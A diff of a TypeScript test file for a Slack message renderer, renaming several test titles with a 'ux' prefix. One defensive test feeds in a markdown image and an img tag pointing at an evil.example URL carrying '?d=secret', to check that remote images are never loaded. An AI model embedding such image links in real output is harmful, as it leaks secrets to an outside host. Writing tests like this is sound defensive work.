@@ -108,7 +108,7 @@ describe("chat/slack/render/render-result", () => {
     expect(`${beside}${stringsIn(blocks).join()}`).not.toContain("@channel");
   });
 
-  it("d.3: a result stands alone: neither a card to be edited, nor an answer inside a card", () => {
+  it("ux d.3: a result stands alone: neither a card to be edited, nor an answer inside a card", () => {
     const types = blocksOf({ buttons: [up, down] }).map((block) => block.type);
 
     expect(types).not.toContain("plan");
@@ -118,7 +118,7 @@ describe("chat/slack/render/render-result", () => {
     ]);
   });
 
-  it("d.6: what is too long for one message is marked as cut, and its fences are closed", () => {
+  it("ux d.6: what is too long for one message is marked as cut, and its fences are closed", () => {
     const text = `Here it is:\n\n\`\`\`\n${"a line of the log\n".repeat(2_000)}\`\`\``;
     const [, markdown] = blocksOf({ text });
     const shown = markdown?.type === "markdown" ? markdown.text : "";
@@ -128,7 +128,7 @@ describe("chat/slack/render/render-result", () => {
     expect(shown).toMatch(/\n```\n\n\(Cut here, because it is too long for one message\.\)$/);
   });
 
-  it("d.20: no picture from elsewhere is loaded or previewed", () => {
+  it("ux d.20: no picture from elsewhere is loaded or previewed", () => {
     const text =
       "See ![chart](https://evil.example/p.png?d=secret) and <img src='https://evil.example/q.png'>";
     const { blocks } = renderMessage(aResult({ text, footer: text, title: text }), here);
